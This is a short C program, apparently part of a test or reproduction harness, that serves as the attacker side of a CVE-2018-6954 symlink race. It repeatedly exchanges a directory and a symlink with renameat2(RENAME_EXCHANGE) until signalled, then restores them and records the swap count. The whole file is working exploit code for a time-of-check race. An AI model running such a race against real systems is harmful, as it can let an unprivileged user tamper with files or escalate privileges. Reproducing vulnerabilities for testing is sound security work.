/* The CVE-2018-6954 attacker: swaps two entries (a directory and a symlink) with
 * renameat2(RENAME_EXCHANGE) in a tight loop until SIGTERM, then leaves them as they were
 * (an even number of swaps) and writes the number of swaps to COUNTFILE.
 *
 *   swapper A B COUNTFILE
 *
 * Run as the deployer: it can only do what a member of the deploy group can do. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static volatile sig_atomic_t stop;

static void on_term(int sig) { (void)sig; stop = 1; }

static int exchange(const char *a, const char *b)
{
        return (int)syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
}

int main(int argc, char **argv)
{
        if (argc != 4) {
                fprintf(stderr, "usage: swapper A B COUNTFILE\n");
                return 2;
        }
        struct sigaction sa = {.sa_handler = on_term};
        sigaction(SIGTERM, &sa, NULL);
        sigaction(SIGINT, &sa, NULL);
        unsigned long long swaps = 0, failures = 0;
        while (!stop) {
                if (exchange(argv[1], argv[2]) == 0)
                        swaps++;
                else if (++failures > 1000 && swaps == 0) {
                        perror("renameat2(RENAME_EXCHANGE)");
                        return 1;
                }
        }
        if (swaps % 2 == 1) {
                while (exchange(argv[1], argv[2]) < 0 && errno == EINTR)
                        ;
                swaps++;
        }
        FILE *f = fopen(argv[3], "w");
        if (!f) {
                perror(argv[3]);
                return 1;
        }
        fprintf(f, "%llu\n", swaps);
        fclose(f);
        return 0;
}
